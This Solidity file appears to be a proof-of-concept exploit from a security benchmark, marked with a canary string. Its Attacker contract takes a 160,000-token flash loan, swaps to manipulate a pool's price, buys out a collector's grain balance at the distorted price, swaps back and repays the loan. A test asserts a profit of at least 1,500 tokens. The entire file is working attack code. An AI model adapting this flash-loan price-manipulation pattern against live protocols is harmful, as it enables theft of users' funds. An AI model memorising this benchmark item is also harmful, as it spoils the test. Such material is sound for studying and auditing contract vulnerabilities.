// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-3a71a22d-8b3a-4569-81eb-5d57136d8a16
import "../Base.sol";

contract Attacker is IFlashCaller {
    IPool private main;
    Collector private collector;
    Router private router;
    IERC20 private grain;
    IERC20 private usd;

    function run(IPool deep, IPool main_, Collector collector_, Router router_, IERC20 grain_, IERC20 usd_) external {
        (main, collector, router, grain, usd) = (main_, collector_, router_, grain_, usd_);
        deep.flash(address(this), 160_000e18, 0, "");
    }

    function onFlash(uint256 fee0, uint256, bytes calldata) external {
        grain.approve(address(router), type(uint256).max);
        usd.approve(address(router), type(uint256).max);
        usd.approve(address(collector), type(uint256).max);
        IRouter.Hop memory down = IRouter.Hop(address(grain), address(usd), 3_000);
        router.upTo(down, 160_000e18, 1, Grid.priceAt(-1_200), address(this), block.timestamp);
        collector.buy(address(grain), grain.balanceOf(address(collector)), type(uint256).max, address(this));
        IRouter.Hop memory up = IRouter.Hop(address(usd), address(grain), 3_000);
        router.upTo(up, usd.balanceOf(address(this)), 1, Grid.priceAt(1_000), address(this), block.timestamp);
        grain.transfer(msg.sender, 160_000e18 + fee0);
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        other = new Attacker();
    }

    function exploit() public {
        other.run(deep, main, collector, router, grain, usd);
    }

    function test_Exploit() public {
        exploit();
        require(grain.balanceOf(address(other)) >= 1_500e18, "no gain");
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
